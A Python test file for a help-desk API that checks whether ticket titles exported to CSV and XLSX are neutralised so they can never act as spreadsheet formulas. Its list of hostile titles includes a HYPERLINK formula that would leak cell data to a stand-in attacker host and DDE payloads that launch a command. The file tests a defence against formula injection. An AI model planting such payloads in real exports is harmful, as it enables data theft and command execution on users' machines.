"""Exports are data, never formulas: titles that anyone who can mail the desk may choose go
through the real export endpoints, and the files are read back as a spreadsheet would."""

from __future__ import annotations

import csv
import io
import unicodedata

import httpx
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from tests.api.conftest import Desk
from tests.api.test_reports import PERIOD, V1, seed

Sessions = async_sessionmaker[AsyncSession]

HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign: NFKC makes it "="
    "﹦1+1",  # small equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(A1:A9)",
    "   =1+1",  # a spreadsheet told to trim spaces would see a formula
    "\u200b=1+1",  # a zero-width space in front
    "\u3000=1+1",  # an ideographic space in front
)
# Harmless titles stay exactly as they were written.
BENIGN = ("Printer jammed", "Café machine → broken", "a;=1+1 in the middle", "1+1=2")
# Characters a workbook cannot hold: the export must not fail on them.
CONTROL = "Bell\x07 and escape\x1b in a title"

TRIGGERS = frozenset("=+-@\t\r\n")


def is_formula(text: str) -> bool:
    """Whether a spreadsheet could read the cell as a formula (after trimming spaces)."""
    head = unicodedata.normalize("NFKC", text).lstrip(" \u200b")
    return bool(head) and head[0] in TRIGGERS


async def seed_titles(sessions: Sessions, desk: Desk) -> dict[int, str]:
    """Tickets with every title above, by number."""
    titles = {}
    for title in (*HOSTILE, *BENIGN, CONTROL):
        view = await seed(sessions, desk, title=title)
        titles[view.number] = title
    return titles


async def export(api: httpx.AsyncClient, desk: Desk, file_format: str) -> httpx.Response:
    params = {"department_id": str(desk.department_id), **PERIOD}
    response = await api.get(
        f"{V1}/reports/export/{file_format}", params=params, headers=desk.admin.auth
    )
    assert response.status_code == 200, response.text
    return response


async def test_csv_cells_are_never_formulas(
    api: httpx.AsyncClient, desk: Desk, session_factory: Sessions
) -> None:
    titles = await seed_titles(session_factory, desk)
    text = (await export(api, desk, "csv")).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(titles)
    for row in rows:
        written = titles[int(row["number"])]
        cell = row["title"]
        assert not is_formula(cell), cell
        if written in HOSTILE:
            assert cell == "'" + written
        else:
            assert cell == written
    # Every text cell is quoted, so a reader that splits on ";" cannot start a new cell
    # inside a title; numbers stay bare numbers.
    lines = text.splitlines()
    middle = next(line for line in lines if "a;=1+1 in the middle" in line)
    assert '"a;=1+1 in the middle"' in middle
    assert middle.split(",")[0].isdigit()


async def test_xlsx_cells_are_strings_never_formulas(
    api: httpx.AsyncClient, desk: Desk, session_factory: Sessions
) -> None:
    titles = await seed_titles(session_factory, desk)
    content = (await export(api, desk, "xlsx")).content
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    number_at, title_at = header.index("number"), header.index("title")
    seen = 0
    for row in sheet.iter_rows(min_row=2):
        number, title = row[number_at], row[title_at]
        assert number.data_type == "n"  # numbers stay numbers
        written = titles[number.value]
        assert title.data_type == "s", (written, title.data_type)
        assert not is_formula(title.value), title.value
        if written in HOSTILE:
            # A workbook's XML keeps no CR: line breaks are LF there.
            assert title.value == "'" + written.replace("\r", "\n")
        elif written == CONTROL:
            assert title.value == "Bell\ufffd and escape\ufffd in a title"
        else:
            assert title.value == written
        seen += 1
    assert seen == len(titles)
    # Nothing anywhere in the workbook is a formula.
    assert all(
        cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value is not None
    )
